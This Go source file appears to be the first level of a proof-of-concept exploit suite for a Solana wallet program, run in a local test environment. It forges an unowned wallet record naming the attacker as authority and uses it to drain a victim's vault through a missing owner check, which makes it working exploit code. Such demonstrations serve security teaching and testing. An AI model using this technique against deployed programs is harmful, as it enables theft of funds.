package level0

import (
	"context"
	"crypto/ed25519"

	"github.com/pkg/errors"

	"github.com/code-payments/poc-ledger/pkg/ledger/localenv"
	"github.com/code-payments/poc-ledger/pkg/pocs"
	"github.com/code-payments/poc-ledger/pkg/solana"
	"github.com/code-payments/poc-ledger/pkg/solana/borsh"
)

const (
	Level       = 0
	Name        = "missing owner check"
	Description = "Withdraw accepts a wallet record the program does not own, so a system account naming the attacker as authority of the victim's vault drains it."

	AuthorityLamports = 10_000_000_000
	AttackerLamports  = 1_000_000
	DepositAmount     = 10_000
)

// Actor keypair indexes.
const (
	AttackerIndex   = 1
	AuthorityIndex  = 2
	FakeWalletIndex = 3
)

// Options configures an environment with the program deployed and the
// victim funded as the payer.
func Options() []localenv.Option {
	return []localenv.Option{
		localenv.WithPayer(solana.KeypairFromIndex(AuthorityIndex), AuthorityLamports),
		localenv.WithProgram(ProgramKey, New()),
	}
}

// Run sets up a funded wallet for the victim, then drains its vault.
func Run(ctx context.Context, env *localenv.Environment) (*pocs.Report, error) {
	rec := pocs.NewRecorder(env, Level, Name, Description, ProgramKey)

	authority := env.Keypair(AuthorityIndex)
	authorityKey := authority.Public().(ed25519.PublicKey)
	attacker := env.Keypair(AttackerIndex)
	attackerKey := attacker.Public().(ed25519.PublicKey)

	wallet, _, err := WalletAddress(ProgramKey, authorityKey)
	if err != nil {
		return nil, err
	}
	vault, _, err := VaultAddress(ProgramKey, authorityKey)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "initialize", []solana.Instruction{
		Initialize(ProgramKey, wallet, vault, authorityKey),
	}, authority)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "deposit", []solana.Instruction{
		Deposit(ProgramKey, wallet, vault, authorityKey, DepositAmount),
	}, authority)
	if err != nil {
		return nil, err
	}

	// A wallet record the program never wrote, naming the attacker as the
	// authority of the victim's vault
	fakeWallet := env.Keypair(FakeWalletIndex)
	fakeWalletData := borsh.MustMarshal(Wallet{
		Authority: solana.MustPublicKey(attackerKey),
		Vault:     solana.MustPublicKey(vault),
	})
	if err := env.CreateAccountWithData(ctx, fakeWallet, fakeWalletData); err != nil {
		return nil, errors.Wrap(err, "failed to create fake wallet")
	}

	if err := env.Airdrop(ctx, attackerKey, AttackerLamports); err != nil {
		return nil, err
	}

	if err := rec.Track(ctx, "vault", vault, pocs.RoleVictim); err != nil {
		return nil, err
	}
	if err := rec.Track(ctx, "attacker", attackerKey, pocs.RoleAttacker); err != nil {
		return nil, err
	}

	stealAmount, err := env.GetBalance(ctx, vault)
	if err != nil {
		return nil, err
	}

	err = rec.Execute(ctx, "withdraw", []solana.Instruction{
		Withdraw(ProgramKey, fakeWallet.Public().(ed25519.PublicKey), vault, attackerKey, attackerKey, stealAmount),
	}, attacker)
	if err != nil {
		return nil, err
	}

	return rec.Finish(ctx)
}
